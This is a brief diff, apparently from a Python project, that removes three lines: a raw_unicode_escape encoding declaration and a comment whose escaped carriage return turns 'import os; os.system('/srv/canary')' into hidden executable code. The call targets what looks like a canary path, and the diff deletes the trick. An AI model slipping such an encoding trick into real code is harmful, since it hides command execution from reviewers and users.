@@ -1,3 +1,0 @@
-
-# coding: raw_unicode_escape
-# total\u000dimport os; os.system('/srv/canary')
